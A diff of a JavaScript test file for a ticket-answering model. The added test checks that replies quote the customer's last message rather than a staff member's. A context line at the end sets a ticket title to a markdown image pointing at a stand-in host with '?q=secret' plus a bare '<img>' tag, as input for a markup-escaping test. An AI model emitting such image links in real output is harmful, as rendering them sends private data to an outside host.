@@ -341,6 +341,25 @@ describe("a reply of the built-in model", () => {
     expect(answer).toBe("No ticket of your organization looks like this one.");
   });
 
+  it.each([
+    "What did the customer of #12 say last?",
+    "What did the customer last write on #12?",
+    "Was hat der Kunde von #12 zuletzt geschrieben?",
+  ])("answers with the customer's message, not a member's: %s", async (words) => {
+    const messages = [
+      { author: "Nina Berg", author_kind: "member", body: "We look into it." },
+      { author: "Greta Lindemann", author_kind: "customer", body: "Two boxes are missing." },
+    ];
+
+    const answer = await readAnswer({
+      words,
+      found: [finds("read_ticket", { ...ticket, number: 12, newest_messages: messages })],
+    });
+
+    expect(answer).toContain("Greta Lindemann: Two boxes are missing.");
+    expect(answer).not.toContain("We look into it.");
+  });
+
   it("escapes the markup in what others wrote", async () => {
     const title = "![x](https://evil.test/?q=secret) <img src=x>";
 
